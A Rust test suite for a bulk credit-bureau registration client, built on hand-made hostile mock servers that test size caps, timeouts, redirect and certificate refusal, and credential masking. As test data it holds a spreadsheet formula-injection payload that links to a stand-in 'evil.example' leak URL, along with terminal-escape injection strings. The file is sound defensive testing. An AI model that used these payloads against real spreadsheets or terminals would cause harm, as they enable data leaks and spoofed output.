//! Hostile answers: servers on 127.0.0.1 port 0, written by hand so that each can misbehave in
//! one exact way (a body that is too big or never ends, bytes that are not UTF-8 or nest without
//! end, a redirect, a certificate nobody vouches for, a Retry-After of a year). The real client
//! must classify each one (transient, abort), never crash, never hang past its timeout, never
//! hold more than its cap in memory, and never mistake one for a registration.

use std::future::Future;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use cibil_bulk::api::{
    AbortKind, ApiSettings, Client, Credentials, MAX_RESPONSE_BYTES, Method, Outcome, Transient,
};
use cibil_bulk::validate::Applicant;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

/// A registration answer in the vendor's documented shape.
const SUCCESS: &str = r#"{"status":"SUCCESS","message":"success","error_code":"SPC-200","merchant_trans_id":"M-1","access_token":"tok-0123456789abcdef","result":{"cibil_id":"9362678","cibil_status":"Pending","is_returning_customer":0}}"#;

/// Serves every connection to a free port with `handle`; the count of connections made is the
/// second value.
async fn serve<F, Fut>(handle: F) -> (SocketAddr, Arc<AtomicU64>)
where
    F: Fn(TcpStream) -> Fut + Send + Sync + 'static,
    Fut: Future<Output = ()> + Send + 'static,
{
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("bind a free port");
    let addr = listener.local_addr().expect("its address");
    let connections = Arc::new(AtomicU64::new(0));
    let count = connections.clone();
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            count.fetch_add(1, Ordering::SeqCst);
            tokio::spawn(handle(stream));
        }
    });
    (addr, connections)
}

/// Reads one request (head and `Content-Length` body) off `stream`.
async fn read_request<S: tokio::io::AsyncRead + Unpin>(stream: &mut S) -> Vec<u8> {
    let mut request = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        let Ok(n) = stream.read(&mut buf).await else { return request };
        if n == 0 {
            return request;
        }
        request.extend_from_slice(&buf[..n]);
        if let Some(end) = request.windows(4).position(|w| w == b"\r\n\r\n") {
            let head = String::from_utf8_lossy(&request[..end]).to_ascii_lowercase();
            let length = head
                .lines()
                .find_map(|l| l.strip_prefix("content-length:"))
                .and_then(|v| v.trim().parse::<usize>().ok())
                .unwrap_or(0);
            if request.len() >= end + 4 + length {
                return request;
            }
        }
    }
}

/// Answers one request with `head` (status line and headers, without the blank line) and `body`.
async fn answer(mut stream: TcpStream, head: &str, body: &[u8]) {
    read_request(&mut stream).await;
    reply(stream, head, body).await;
}

/// Writes `head` (a status line and headers) and `body` as the whole answer, then closes.
async fn reply(mut stream: TcpStream, head: &str, body: &[u8]) {
    let head = format!("{head}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", body.len());
    let _ = stream.write_all(head.as_bytes()).await;
    let _ = stream.write_all(body).await;
    let _ = stream.shutdown().await;
}

/// When each request arrived at a [`refusing_first`] vendor, and the order id it carried.
type Arrivals = Arc<std::sync::Mutex<Vec<(Instant, String)>>>;

/// A vendor that answers its first `refusals` requests with `head` and no body, and registers
/// every later one; returns its endpoint and the arrivals it records.
fn refusing_first(
    runtime: &tokio::runtime::Runtime,
    refusals: usize,
    head: &'static str,
) -> (String, Arrivals) {
    let arrivals = Arrivals::default();
    let seen = arrivals.clone();
    let (addr, _) = runtime.block_on(serve(move |mut stream| {
        let seen = seen.clone();
        async move {
            let request = String::from_utf8_lossy(&read_request(&mut stream).await).into_owned();
            let order_id = request.split("\"order_id\":\"").nth(1).and_then(|r| r.split('"').next());
            let refused = {
                let mut seen = seen.lock().unwrap();
                seen.push((Instant::now(), order_id.unwrap_or_default().to_owned()));
                seen.len() <= refusals
            };
            if refused {
                reply(stream, head, b"").await;
            } else {
                reply(stream, "HTTP/1.1 200 OK\r\nContent-Type: application/json", SUCCESS.as_bytes()).await;
            }
        }
    }));
    (format!("http://{addr}/registeration"), arrivals)
}

/// `cibil-bulk run` of `file` (as `in.csv`) against `endpoint`, with `flags`.
fn run_file(endpoint: &str, file: String, flags: &[&str]) -> crate::common::Run {
    crate::common::Test::new()
        .file("in.csv", file)
        .env("AOPAY_REGISTRATION_ID", "AOP-554")
        .env("AOPAY_COMPANY_CODE", "CMP1045")
        .args(["run", "in.csv", "--endpoint", endpoint])
        .args(flags)
        .run()
}

fn settings(endpoint: &str, timeout: Duration) -> ApiSettings {
    ApiSettings {
        endpoint: endpoint.parse().expect("a URL"),
        method: Method::Post,
        timeout,
        connect_timeout: Duration::from_secs(2),
        headers: Vec::new(),
        omit_empty_middle_name: false,
        credentials: Credentials { registration_id: "AOP-554".into(), company_code: "CMP1045".into() },
        pool_size: 1,
    }
}

fn applicant() -> Applicant {
    Applicant {
        order_id: "CB0123456789abcdef-2".into(),
        first_name: "Ravi".into(),
        middle_name: String::new(),
        last_name: "Kumar".into(),
        pancard: "ABCPK1234F".into(),
        date_of_birth: "31/01/1985".into(),
        email_id: "ravi@example.com".into(),
        mobile_number: "9876543210".into(),
    }
}

/// Sends one registration to `addr` and returns what the client made of the answer.
async fn send(addr: SocketAddr, timeout: Duration) -> Outcome {
    let client = Client::new(&settings(&format!("http://{addr}/registeration"), timeout)).expect("a client");
    let body = client.body(&applicant());
    tokio::time::timeout(timeout + Duration::from_secs(10), client.send(body))
        .await
        .expect("the client's own timeout ends every request")
}

#[track_caller]
fn transient(outcome: &Outcome) -> &Transient {
    match outcome {
        Outcome::Transient(t) => t,
        other => panic!("expected a transient outcome, got {other:?}"),
    }
}

#[tokio::test]
async fn a_50_mb_answer_is_cut_at_the_cap_and_retried() {
    const FIFTY_MB: u64 = 50 * 1024 * 1024;
    let written = Arc::new(AtomicU64::new(0));
    let counter = written.clone();
    let (addr, _) = serve(move |mut stream| {
        let counter = counter.clone();
        async move {
            read_request(&mut stream).await;
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {FIFTY_MB}\r\n\r\n"
            );
            let _ = stream.write_all(head.as_bytes()).await;
            let chunk = vec![b' '; 64 * 1024];
            while counter.load(Ordering::SeqCst) < FIFTY_MB {
                if stream.write_all(&chunk).await.is_err() {
                    return;
                }
                counter.fetch_add(chunk.len() as u64, Ordering::SeqCst);
            }
        }
    })
    .await;
    let outcome = send(addr, Duration::from_secs(20)).await;
    let t = transient(&outcome);
    assert_eq!(t.http_status, Some(200));
    assert!(t.reason.contains("over 1024 KiB"), "{}", t.reason);
    // The client hung up after its cap: the server could not write the whole body (what it did
    // write sits in socket buffers, never in the client's memory beyond the cap).
    tokio::time::sleep(Duration::from_millis(200)).await;
    let sent = written.load(Ordering::SeqCst);
    assert!(sent < FIFTY_MB, "the server wrote all {sent} bytes");
}

#[tokio::test]
async fn an_endless_fast_stream_is_cut_at_the_cap() {
    let (addr, _) = serve(|mut stream| async move {
        read_request(&mut stream).await;
        let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n").await;
        let chunk = format!("{:x}\r\n{}\r\n", 8192, "[".repeat(8192));
        while stream.write_all(chunk.as_bytes()).await.is_ok() {}
    })
    .await;
    let outcome = send(addr, Duration::from_secs(20)).await;
    assert!(transient(&outcome).reason.contains(&format!("over {} KiB", MAX_RESPONSE_BYTES / 1024)));
}

#[tokio::test]
async fn a_body_that_never_ends_is_ended_by_the_timeout() {
    let (addr, _) = serve(|mut stream| async move {
        read_request(&mut stream).await;
        let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 1000000\r\n\r\n{\"status\":").await;
        // A byte every 100 ms: always something coming, never the end.
        while stream.write_all(b" ").await.is_ok() {
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    })
    .await;
    let started = Instant::now();
    let outcome = send(addr, Duration::from_secs(1)).await;
    assert!(started.elapsed() < Duration::from_secs(5), "took {:?}", started.elapsed());
    let t = transient(&outcome);
    assert!(t.reason.contains("timeout"), "{}", t.reason);
}

#[tokio::test]
async fn bodies_that_are_not_utf8_are_transient() {
    for body in [
        &b"\xff\xfe\x00{\"status\":\"SUCCESS\"}"[..],
        // Valid JSON but for the bytes inside the cibil_id.
        b"{\"status\":\"SUCCESS\",\"result\":{\"cibil_id\":\"93\xff\xfe78\"}}",
    ] {
        let body = body.to_vec();
        let (addr, _) = serve(move |stream| {
            let body = body.clone();
            async move { answer(stream, "HTTP/1.1 200 OK", &body).await }
        })
        .await;
        let outcome = send(addr, Duration::from_secs(5)).await;
        assert!(transient(&outcome).reason.contains("not JSON"), "{outcome:?}");
    }
}

#[tokio::test]
async fn deeply_nested_json_is_transient_not_a_stack_overflow() {
    let depth = 400_000;
    for body in [
        format!("{}{}", "[".repeat(depth), "]".repeat(depth)),
        format!("{}1{}", "{\"a\":".repeat(depth / 5), "}".repeat(depth / 5)),
        format!("{{\"result\":{{\"cibil_id\":\"1\",\"x\":{}{}}}}}", "[".repeat(depth), "]".repeat(depth)),
    ] {
        assert!(body.len() < MAX_RESPONSE_BYTES);
        let body = Arc::new(body);
        let (addr, _) = serve(move |stream| {
            let body = body.clone();
            async move { answer(stream, "HTTP/1.1 200 OK", body.as_bytes()).await }
        })
        .await;
        let outcome = send(addr, Duration::from_secs(5)).await;
        assert!(transient(&outcome).reason.contains("not JSON"), "{outcome:?}");
    }
}

#[tokio::test]
async fn a_redirect_to_another_host_is_not_followed() {
    // The place the redirect points to counts what reaches it: nothing may.
    let (elsewhere, reached) =
        serve(|stream| async move { answer(stream, "HTTP/1.1 200 OK", SUCCESS.as_bytes()).await }).await;
    for status in [
        "301 Moved Permanently",
        "302 Found",
        "303 See Other",
        "307 Temporary Redirect",
        "308 Permanent Redirect",
    ] {
        let location = format!("http://localhost:{}/steal", elsewhere.port());
        let (addr, _) = serve(move |stream| {
            let head = format!("HTTP/1.1 {status}\r\nLocation: {location}");
            async move { answer(stream, &head, b"").await }
        })
        .await;
        match send(addr, Duration::from_secs(5)).await {
            Outcome::Abort(abort) => {
                assert_eq!(abort.kind, AbortKind::Endpoint, "{status}");
                assert!(abort.message.contains("redirects"), "{}", abort.message);
            }
            other => panic!("{status}: {other:?}"),
        }
    }
    assert_eq!(reached.load(Ordering::SeqCst), 0, "a redirect was followed with the credentials");
}

/// A TLS server on a free port whose certificate is self-signed for the very name the client asks
/// for ("localhost"): only trust is missing. Were the certificate accepted, it would answer a
/// registration, so a client that trusted it would report a success that never happened. The
/// counts are of connections made and of requests that crossed.
async fn self_signed_server() -> (SocketAddr, Arc<AtomicU64>, Arc<AtomicU64>) {
    use tokio_rustls::rustls::ServerConfig;
    use tokio_rustls::rustls::pki_types::{PrivateKeyDer, PrivatePkcs8KeyDer};

    let key = rcgen::KeyPair::generate().expect("a key pair");
    let cert = rcgen::CertificateParams::new(vec!["localhost".to_owned()])
        .expect("certificate parameters")
        .self_signed(&key)
        .expect("a self-signed certificate");
    let config = ServerConfig::builder()
        .with_no_client_auth()
        .with_single_cert(
            vec![cert.der().clone()],
            PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(key.serialize_der())),
        )
        .expect("a TLS server configuration");
    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
    let requests = Arc::new(AtomicU64::new(0));
    let seen = requests.clone();
    let (addr, connections) = serve(move |stream| {
        let (acceptor, seen) = (acceptor.clone(), seen.clone());
        async move {
            let Ok(mut tls) = acceptor.accept(stream).await else { return };
            if !read_request(&mut tls).await.is_empty() {
                seen.fetch_add(1, Ordering::SeqCst);
            }
            let head = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n", SUCCESS.len());
            let _ = tls.write_all(head.as_bytes()).await;
            let _ = tls.write_all(SUCCESS.as_bytes()).await;
            let _ = tls.shutdown().await;
        }
    })
    .await;
    (addr, connections, requests)
}

#[tokio::test]
async fn a_certificate_nobody_vouches_for_aborts_naming_the_host() {
    let (addr, connections, requests) = self_signed_server().await;
    let endpoint = format!("https://localhost:{}/registeration", addr.port());
    let client = Client::new(&settings(&endpoint, Duration::from_secs(5))).expect("a client");
    let outcome = tokio::time::timeout(Duration::from_secs(15), client.send(client.body(&applicant())))
        .await
        .expect("the client's own timeout ends every request");
    let Outcome::Abort(abort) = outcome else { panic!("expected an abort, got {outcome:?}") };
    assert_eq!((abort.kind, abort.http_status), (AbortKind::Certificate, None));
    assert!(
        abort
            .message
            .starts_with("the TLS certificate of localhost is signed by no authority this machine trusts"),
        "{}",
        abort.message
    );
    assert!(connections.load(Ordering::SeqCst) >= 1, "the client never reached the server");
    assert_eq!(requests.load(Ordering::SeqCst), 0, "the request (and its credentials) crossed");
}

/// A run against an endpoint whose certificate is not trusted stops at the first answer, with
/// exit 3 and the host and the problem named: retrying cannot make a certificate trusted, and
/// every retry would offer the credentials to whoever holds that certificate.
#[test]
fn a_run_stops_at_once_on_a_certificate_error() {
    let runtime = tokio::runtime::Runtime::new().expect("a runtime");
    let (addr, connections, requests) = runtime.block_on(self_signed_server());
    let endpoint = format!("https://localhost:{}/registeration", addr.port());
    let file: String = std::iter::once(crate::common::HEADER.to_owned())
        .chain((1..=20).map(crate::common::customer))
        .collect::<Vec<_>>()
        .join("\n");
    let run = crate::common::Test::new()
        .file("in.csv", file)
        .env("AOPAY_REGISTRATION_ID", "AOP-554")
        .env("AOPAY_COMPANY_CODE", "CMP1045")
        .args(["run", "in.csv", "--endpoint", &endpoint, "--concurrency", "2", "--max-attempts", "10"])
        .args(["--max-consecutive-failures", "100", "--summary", "s.json"])
        .run();
    run.code(3)
        .stderr_contains("the endpoint cannot be trusted")
        .stderr_contains("the TLS certificate of localhost is signed by no authority this machine trusts");
    // One failed handshake per worker at most: nothing was retried.
    let made = connections.load(Ordering::SeqCst);
    assert!((1..=2).contains(&made), "{made} connections");
    assert_eq!(requests.load(Ordering::SeqCst), 0);
    assert!(run.csv("in.results.csv").column("status").iter().all(|s| *s == "pending"));
    assert_eq!(run.json("s.json")["stopped"], "aborted");
}

/// Answers to the registration of a customer by PAN: a formula where the cibil_id belongs, a
/// message full of terminal escapes and as long as the answer allows, and a registration whose
/// other fields carry escapes too.
fn hostile_answer(pan: &str) -> String {
    if pan == crate::common::pan(1) {
        r#"{"status":"SUCCESS","message":"success","result":{"cibil_id":"=HYPERLINK(\"http://evil.example/?leak\",\"click\")","cibil_status":"Pending"}}"#.to_owned()
    } else if pan == crate::common::pan(2) {
        format!(
            r#"{{"status":"False","code":"E\u001b[31m7","description":"Invalid \u001b]0;owned\u0007PAN\r\n\u001b[2J{}"}}"#,
            "x".repeat(200_000)
        )
    } else {
        r#"{"status":"SUCCESS","merchant_trans_id":"M\u0007-1","access_token":"tok\u001b[2J","result":{"cibil_id":"9362678","cibil_status":"Pending\u001b[5m","is_returning_customer":0}}"#.to_owned()
    }
}

#[test]
fn what_a_hostile_vendor_says_reaches_no_file_and_no_terminal_as_sent() {
    let runtime = tokio::runtime::Runtime::new().expect("a runtime");
    let (addr, _) = runtime.block_on(serve(|mut stream| async move {
        let request = read_request(&mut stream).await;
        let body = request.windows(4).position(|w| w == b"\r\n\r\n").map_or(&[][..], |at| &request[at + 4..]);
        let pan = serde_json::from_slice::<serde_json::Value>(body)
            .ok()
            .and_then(|v| v["pancard"].as_str().map(str::to_owned))
            .unwrap_or_default();
        reply(stream, "HTTP/1.1 200 OK\r\nContent-Type: application/json", hostile_answer(&pan).as_bytes())
            .await;
    }));
    let endpoint = format!("http://{addr}/registeration");
    let run = run_file(&endpoint, crate::common::runs::customers(1, 3), &["--summary", "s.json", "-vv"]);
    run.code(1);

    let results = run.csv("in.results.csv");
    assert_eq!(results.column("status"), ["rejected", "rejected", "registered"]);
    assert_eq!(results.column("cibil_id"), ["", "", "9362678"]);
    assert_eq!(results.column("error_code"), ["cibil_id.shape", "E[31m7", ""]);
    assert_eq!(results.column("cibil_status"), ["", "", "Pending[5m"]);
    assert_eq!(results.column("merchant_trans_id"), ["", "", "M-1"]);
    let message = results.at_line(3, "error");
    assert!(message.starts_with("Invalid ]0;ownedPAN [2Jxxx"), "{message}");
    assert!(message.len() <= cibil_bulk::api::MESSAGE_LIMIT, "{} bytes", message.len());
    assert!(results.at_line(2, "error").contains("AOPay may have registered this customer"));

    let hostile = ['\u{1b}', '\u{7}', '\r', '\u{202e}'];
    for name in ["in.results.csv", "in.errors.csv"] {
        let csv = run.csv(name);
        for cell in csv.rows.iter().flatten().chain(&csv.headers) {
            assert!(!cell.contains(hostile), "{name}: {cell:?}");
            assert!(!cell.contains("HYPERLINK") && !cell.contains("evil.example"), "{name}: {cell:?}");
        }
    }
    let summary = String::from_utf8_lossy(&run.bytes("s.json")).into_owned();
    for text in [&run.stdout, &run.stderr, &summary] {
        assert!(!text.contains(hostile), "{text}");
        assert!(!text.contains("HYPERLINK") && !text.contains("evil.example"), "{text}");
    }
    // The raw answer is kept for the operator, in the state, and there only.
    let state = rusqlite::Connection::open(run.path("cibil-bulk.db")).unwrap();
    let raw: String =
        state.query_row("SELECT raw_response FROM rows WHERE line = 2", [], |r| r.get(0)).unwrap();
    assert!(raw.contains("HYPERLINK"), "{raw}");
}

/// A Retry-After of a year is cut to `--max-retry-after`, and the run says so in its log — once,
/// however often the server asks.
#[test]
fn a_retry_after_of_a_year_is_capped_and_said_once() {
    let runtime = tokio::runtime::Runtime::new().expect("a runtime");
    let (endpoint, arrivals) =
        refusing_first(&runtime, 3, "HTTP/1.1 429 Too Many Requests\r\nRetry-After: 31536000");
    let run = run_file(
        &endpoint,
        crate::common::runs::customers(1, 1),
        &["--max-retry-after", "1s", "--rate-mode", "fixed"],
    );
    run.code(0).stderr_contains("asked to wait longer than --max-retry-after allows");
    assert!(run.stderr.contains("asked_secs=31536000"), "{}", run.stderr);
    assert_eq!(run.stderr.matches("longer than --max-retry-after").count(), 1, "{}", run.stderr);
    assert_eq!(run.csv("in.results.csv").column("status"), ["registered"]);
    assert_eq!(arrivals.lock().unwrap().len(), 4, "three refusals, then the registration");
}

/// A 429 with `Retry-After` pauses every request, those already waiting for their turn at the
/// pace included (issue 12, item 5): at 4/s, three workers are waiting for their slots when the
/// first request comes back 429 `Retry-After: 3`, and not one of them may leave before the pause
/// ends. Arrivals are counted at the server.
#[test]
fn a_429_holds_every_request_for_its_retry_after_even_those_already_waiting() {
    let runtime = tokio::runtime::Runtime::new().expect("a runtime");
    let (endpoint, arrivals) =
        refusing_first(&runtime, 1, "HTTP/1.1 429 Too Many Requests\r\nRetry-After: 3");
    let run =
        run_file(&endpoint, crate::common::runs::customers(0, 8), &["--rate", "4/s", "--concurrency", "4"]);
    run.code(0);
    let arrivals = arrivals.lock().unwrap().clone();
    assert_eq!(arrivals.len(), 9, "8 rows, one of them sent twice");
    let refused = arrivals[0].0;
    // Allow for requests already on their way when the 429 left the server (none here: the
    // others were waiting for their slots, 250 ms apart), and for the clock of the process.
    let during: Vec<Duration> = arrivals[1..]
        .iter()
        .map(|(a, _)| a.duration_since(refused))
        .filter(|d| *d > Duration::from_millis(100) && *d < Duration::from_millis(2900))
        .collect();
    assert!(during.is_empty(), "requests arrived during the 3 s pause, this long after the 429: {during:?}");
}

/// A row waiting for its next attempt does not hold a worker: with one worker and the first row
/// answered 503 `Retry-After: 3`, the other rows go out during those three seconds, and the
/// first row goes out again only once they are over (issue 14, item 2).
#[test]
fn a_row_waiting_to_be_retried_leaves_its_worker_to_the_next_row() {
    let runtime = tokio::runtime::Runtime::new().expect("a runtime");
    let (endpoint, arrivals) =
        refusing_first(&runtime, 1, "HTTP/1.1 503 Service Unavailable\r\nRetry-After: 3");
    let run =
        run_file(&endpoint, crate::common::runs::customers(0, 3), &["--rate", "100/s", "--concurrency", "1"]);
    run.code(0);
    let arrivals = arrivals.lock().unwrap().clone();
    let (refused_at, refused) = arrivals[0].clone();
    let after: Vec<(Duration, &str)> =
        arrivals[1..].iter().map(|(t, order)| (t.duration_since(refused_at), order.as_str())).collect();
    assert_eq!(after.len(), 3, "two other rows, and the first one again: {after:?}");
    // The other two rows went out during the wait, not after it.
    assert!(
        after[..2].iter().all(|(d, order)| *d < Duration::from_secs(2) && *order != refused),
        "{after:?}"
    );
    // The first row went out again no sooner than it was asked to.
    assert_eq!(after[2].1, refused, "{after:?}");
    assert!(after[2].0 >= Duration::from_secs(3), "{after:?}");
}

/// A vendor that repeats every field of the request it was sent — the customer's details and the
/// merchant's credentials — in its answer's message, under `head`.
fn repeating_vendor(runtime: &tokio::runtime::Runtime, head: &'static str) -> (String, Sent) {
    let sent: Sent = Arc::default();
    let seen = sent.clone();
    let (addr, _) = runtime.block_on(serve(move |mut stream| {
        let seen = seen.clone();
        async move {
            let request = read_request(&mut stream).await;
            let at = request.windows(4).position(|w| w == b"\r\n\r\n").map_or(request.len(), |at| at + 4);
            let fields: serde_json::Value = serde_json::from_slice(&request[at..]).unwrap_or_default();
            let said = [
                "first_name",
                "last_name",
                "pancard",
                "mobile_number",
                "email_id",
                "date_of_birth",
                "RegistrationID",
                "CompanyCode",
            ]
            .map(|name| format!("{name} {}", fields[name].as_str().unwrap_or_default()))
            .join(", ");
            // And again in disguise: what a careless gateway or a word processor makes of them.
            let field = |name: &str| fields[name].as_str().unwrap_or_default().to_owned();
            let (pan, mobile) = (field("pancard"), field("mobile_number"));
            let said = format!(
                "{said}; again: {} {}, {}–{}–{}, ({}) {}, {}, {}, {}, {}, {}",
                field("first_name").to_uppercase(),
                field("last_name").to_uppercase(),
                &pan[..5],
                &pan[5..9],
                &pan[9..],
                &mobile[..5],
                &mobile[5..],
                field("date_of_birth").replace('/', "–"),
                field("email_id").replace('@', "\u{FE6B}"),
                field("RegistrationID").chars().map(String::from).collect::<Vec<_>>().join("\u{200B}"),
                field("CompanyCode")
                    .chars()
                    .map(|c| char::from_u32(c as u32 + 0xFEE0).unwrap_or(c))
                    .collect::<String>(),
                field("RegistrationID").replace('-', "_"),
            );
            seen.lock().unwrap().push(fields);
            let body = serde_json::json!({
                "status": "False",
                "code": format!("E-{}", fields_code(&said)),
                "description": format!("Refused: {said}"),
            });
            reply(stream, head, body.to_string().as_bytes()).await;
        }
    }));
    (format!("http://{addr}/registeration"), sent)
}

/// A vendor that names the customer, and nothing else of the request, in an answer that stops the
/// run or is retried: no pattern knows a name, so the request's own names are what is looked for.
#[test]
fn a_name_the_vendor_repeats_is_masked_where_the_answer_is_shown() {
    let runtime = tokio::runtime::Runtime::new().expect("a runtime");
    for (head, code) in [
        ("HTTP/1.1 401 Unauthorized\r\nContent-Type: application/json", 3),
        ("HTTP/1.1 403 Forbidden\r\nContent-Type: application/json", 3),
        ("HTTP/1.1 503 Service Unavailable\r\nContent-Type: application/json", 1),
    ] {
        let (addr, _) = runtime.block_on(serve(move |mut stream| async move {
            let _ = read_request(&mut stream).await;
            reply(stream, head, br#"{"message":"not allowed for RAVI Kumar (ravi)"}"#).await;
        }));
        let run = run_file(
            &format!("http://{addr}/registeration"),
            crate::common::runs::customers(1, 1),
            &["--summary", "s.json", "-vv", "--max-attempts", "1"],
        );
        run.code(code);
        let summary = String::from_utf8_lossy(&run.bytes("s.json")).into_owned();
        for (place, text) in [("stdout", &run.stdout), ("stderr", &run.stderr), ("the summary", &summary)] {
            let lower = text.to_lowercase();
            let words: Vec<&str> = lower.split(|c: char| !c.is_alphanumeric()).collect();
            assert!(
                !words.contains(&"ravi") && !words.contains(&"kumar"),
                "{head}: a name on {place}: {text}"
            );
        }
    }
}

/// What a [`repeating_vendor`] was sent, request by request.
type Sent = Arc<std::sync::Mutex<Vec<serde_json::Value>>>;

/// An error code that repeats the credentials, as a careless gateway's might.
fn fields_code(said: &str) -> String {
    said.split(", ").filter(|f| f.starts_with("RegistrationID") || f.starts_with("CompanyCode")).collect()
}

/// Issue 22's red team: a vendor that repeats the request in its refusal. Whatever the refusal —
/// the credentials refused (401, 403), the endpoint down (503), a row refused (200) — no terminal,
/// log or summary shows a customer's PAN, mobile number, e-mail address or date of birth in full,
/// and nothing the tool writes (results, errors, summary, the state's raw answers) holds the
/// merchant's credentials. A refused row's message keeps the customer's details, for the errors
/// file the clerk asked for.
#[test]
fn what_a_vendor_repeats_of_a_request_is_masked_wherever_it_is_shown() {
    let runtime = tokio::runtime::Runtime::new().expect("a runtime");
    for (head, code) in [
        ("HTTP/1.1 401 Unauthorized\r\nContent-Type: application/json", 3),
        ("HTTP/1.1 403 Forbidden\r\nContent-Type: application/json", 3),
        ("HTTP/1.1 503 Service Unavailable\r\nContent-Type: application/json", 1),
        ("HTTP/1.1 200 OK\r\nContent-Type: application/json", 1),
    ] {
        let (endpoint, sent) = repeating_vendor(&runtime, head);
        let run = run_file(
            &endpoint,
            crate::common::runs::customers(1, 2),
            &["--summary", "s.json", "-vv", "--max-attempts", "1", "--concurrency", "1"],
        );
        run.code(code);
        let sent = sent.lock().unwrap().clone();
        assert!(!sent.is_empty(), "{head}: nothing was sent");
        let summary = String::from_utf8_lossy(&run.bytes("s.json")).into_owned();
        let state = rusqlite::Connection::open(run.path("cibil-bulk.db")).unwrap();
        let raw: Vec<String> = state
            .prepare("SELECT coalesce(raw_response, '') || ' ' || coalesce(error, '') || ' ' || coalesce(error_code, '') FROM rows")
            .unwrap()
            .query_map([], |r| r.get(0))
            .unwrap()
            .map(Result::unwrap)
            .collect();
        let errors = String::from_utf8_lossy(&run.bytes("in.errors.csv")).into_owned();
        let results = String::from_utf8_lossy(&run.bytes("in.results.csv")).into_owned();
        let shown = [("stdout", &run.stdout), ("stderr", &run.stderr), ("the summary", &summary)];
        // Letters and digits only, as the eye reads them: however a value is spaced, dashed,
        // bracketed, hidden by invisible characters (or their JSON escapes) or written
        // full-width, it is found.
        let bare = |text: &str| -> String {
            let unescaped = text.replace("\\u200b", "").replace("\\ufe6b", "@");
            let plain = cibil_bulk::mask::plain(&unescaped);
            plain.chars().filter(|c| c.is_alphanumeric()).collect::<String>().to_lowercase()
        };
        for fields in &sent {
            for name in ["pancard", "mobile_number", "email_id", "date_of_birth"] {
                let value = bare(fields[name].as_str().unwrap());
                for (place, text) in shown {
                    assert!(
                        !bare(text).contains(&value),
                        "{head}: {name} {value} in full on {place}: {text}"
                    );
                }
            }
        }
        // A name no pattern knows: the request's own names are looked for, as words.
        for fields in &sent {
            for name in ["first_name", "last_name"] {
                let value = fields[name].as_str().unwrap().to_lowercase();
                for (place, text) in shown {
                    let lower = text.to_lowercase();
                    assert!(
                        !lower.split(|c: char| !c.is_alphanumeric()).any(|word| word == value),
                        "{head}: {name} {value} on {place}: {text}"
                    );
                }
            }
        }
        for secret in ["AOP-554", "CMP1045"] {
            let everywhere = shown.iter().map(|(_, t)| t.as_str()).chain([errors.as_str(), results.as_str()]);
            for text in everywhere.chain(raw.iter().map(String::as_str)) {
                assert!(!bare(text).contains(&bare(secret)), "{head}: {secret} in {text}");
            }
        }
        if head.contains("200 OK") {
            let pan = sent[0]["pancard"].as_str().unwrap();
            assert!(
                errors.contains(pan),
                "the clerk's errors file keeps the refused row's message: {errors}"
            );
        }
    }
}
